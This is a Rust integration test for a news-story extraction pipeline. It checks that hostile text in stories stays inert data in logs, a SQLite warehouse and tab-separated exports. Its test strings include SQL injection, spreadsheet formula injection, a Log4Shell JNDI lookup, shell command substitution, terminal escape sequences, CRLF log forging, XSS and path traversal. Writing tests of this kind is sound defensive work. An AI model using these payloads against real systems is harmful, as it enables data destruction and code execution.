//! Words that mean something to a shell, a terminal, a database, a table or a log stay words, from the
//! story to the row and to the line.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::{
    collections::BTreeMap,
    fs,
    io::Write,
    path::Path,
    process::{Command, Stdio},
};

use integration_tests::pipeline::{binary, open};
use serde_json::{Value, json};

/// Words, and what of them must stand in the warehouse: control characters go, all else stays.
const WORDS: &[(&str, &str)] = &[
    ("'); DROP TABLE stories; --", "'); DROP TABLE stories; --"),
    ("\" OR 1=1; DELETE FROM events; /*", "\" OR 1=1; DELETE FROM events; /*"),
    ("$1 ?1 :name @name %s {0}", "$1 ?1 :name @name %s {0}"),
    ("=HYPERLINK(\"http://a.example\",\"x\")", "=HYPERLINK(\"http://a.example\",\"x\")"),
    ("@SUM(1+1)*cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0"),
    (
        "${jndi:ldap://a.example/x} $(reboot) `reboot`",
        "${jndi:ldap://a.example/x} $(reboot) `reboot`",
    ),
    ("x\u{1b}[2J\u{1b}]0;owned\u{7}y", "x[2J]0;ownedy"),
    (
        "one\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}",
        "one {\"level\":\"ERROR\",\"message\":\"forged\"}",
    ),
    ("null\u{0}byte", "nullbyte"),
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("../../etc/passwd", "../../etc/passwd"),
];

const ACT: &str = "PARIS, Oct 7 (Example Wire) - France accused Germany of spying on Tuesday.";

/// A story with the words wherever words may stand.
fn story(number: usize, words: &str) -> String {
    let line = json!({
        "id": format!("{number} {words}"),
        "title": words,
        "text": format!("{ACT}\n\n{words} said France.\n\nGermany \t rejected {words} on Wednesday."),
        "authors": [words],
        "published": "2014-10-07T09:00:00Z",
        "language": "en",
    });
    format!("{line}\n")
}

/// Runs the pipeline over a folder; gives all that it has printed.
fn run(folder: &Path, format: &str) -> String {
    let quoted = |name: &str| toml::Value::String(folder.join(name).display().to_string());
    let settings = format!(
        "log.format = \"{format}\"\nadmin.listen = \"\"\nconsole.listen = \"\"\n\
         sink.sqlite.path = {}\nbus.data_dir = {}\n",
        quoted("warehouse.sqlite3"),
        quoted("data"),
    );
    fs::write(folder.join("dateline.toml"), settings).unwrap();
    let output = Command::new(binary("dateline").unwrap())
        .args(["run", "--input"])
        .arg(folder.join("in"))
        .arg("--config")
        .arg(folder.join("dateline.toml"))
        .output()
        .unwrap();
    let text = [output.stdout, output.stderr].concat();
    let text = String::from_utf8(text).unwrap();
    assert!(output.status.success(), "{text}");
    text
}

fn assert_no_line_is_forged(text: &str, is_json: bool) {
    for line in text.lines().filter(|line| !line.is_empty()) {
        let odd = line.chars().find(|c| c.is_control());
        assert_eq!(odd, None, "a control character in a line: {line:?}");
        let forged = line.starts_with("{\"level\":\"ERROR\",\"message\":\"forged\"");
        assert!(!forged, "a story has written a line of the log: {line:?}");
        if is_json && line.starts_with('{') {
            let parsed: Value = serde_json::from_str(line).unwrap();
            assert_ne!(parsed["message"], "forged", "{line}");
        }
    }
}

#[test]
fn words_of_a_story_stay_words_in_log_and_warehouse() {
    for format in ["json", "pretty"] {
        let folder = tempfile::tempdir().unwrap();
        let folder = folder.path();
        fs::create_dir_all(folder.join("in")).unwrap();
        for (number, (words, _)) in WORDS.iter().enumerate() {
            fs::write(folder.join(format!("in/{number:02}.jsonl")), story(number, words)).unwrap();
        }
        // A line that cannot be read is told of with its words, too.
        fs::write(folder.join("in/99.jsonl"), "{\"id\": \"x\u{1b}[2Jy\", \"text\": 7}\n").unwrap();
        assert_no_line_is_forged(&run(folder, format), format == "json");
        let warehouse = open(&folder.join("warehouse.sqlite3")).unwrap();
        let mut rows = warehouse.prepare("SELECT title, text FROM stories").unwrap();
        let rows = rows.query_map([], |row| Ok((row.get(0)?, row.get(1)?))).unwrap();
        let rows: BTreeMap<String, String> = rows.collect::<Result<_, _>>().unwrap();
        let titles: Vec<&str> = rows.keys().map(String::as_str).collect();
        for (_, expected) in WORDS {
            let text = rows.get(*expected);
            let text = text.unwrap_or_else(|| panic!("no title is {expected:?}: {titles:?}"));
            assert!(text.contains("accused Germany"), "{text}");
        }
        assert_eq!(rows.len(), WORDS.len());
        let events: usize =
            warehouse.query_row("SELECT count(*) FROM events", [], |row| row.get(0)).unwrap();
        assert!(events >= WORDS.len(), "{events} events");
    }
}

#[test]
fn words_of_a_story_stay_in_their_column_of_an_export() {
    let lines: String =
        WORDS.iter().enumerate().map(|(number, (words, _))| story(number, words)).collect();
    let records = piped(&["extract", "--jsonl", "-"], &lines);
    for form in ["gdelt", "phoenix"] {
        let table = piped(&["export", "--as", form, "-"], &records);
        let columns: Vec<usize> = table.lines().map(|row| row.split('\t').count()).collect();
        assert!(columns.len() >= WORDS.len(), "{form}: {} rows", columns.len());
        assert!(columns.iter().all(|count| *count == columns[0]), "{form}: {columns:?}");
        let odd = table.chars().find(|c| c.is_control() && !matches!(c, '\n' | '\t'));
        assert_eq!(odd, None, "{form}");
    }
}

fn piped(arguments: &[&str], input: &str) -> String {
    let mut child = Command::new(binary("dateline").unwrap())
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_owned();
    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8(output.stdout).unwrap()
}
